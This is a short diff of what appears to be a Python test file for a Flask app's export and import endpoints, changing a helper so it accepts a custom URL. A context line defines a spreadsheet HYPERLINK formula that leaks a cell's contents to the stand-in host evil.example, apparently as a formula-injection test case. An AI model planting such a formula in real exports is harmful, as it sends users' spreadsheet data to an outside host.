@@ -21,8 +21,8 @@ IMPORT = "/api/v1/import"
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
 
 
-def export_text(client: FlaskClient, actor: Actor) -> str:
-    response = client.get(EXPORT, headers=actor.headers)
+def export_text(client: FlaskClient, actor: Actor, url: str = EXPORT) -> str:
+    response = client.get(url, headers=actor.headers)
     try:
         assert response.status_code == 200
         return response.get_data(as_text=True)
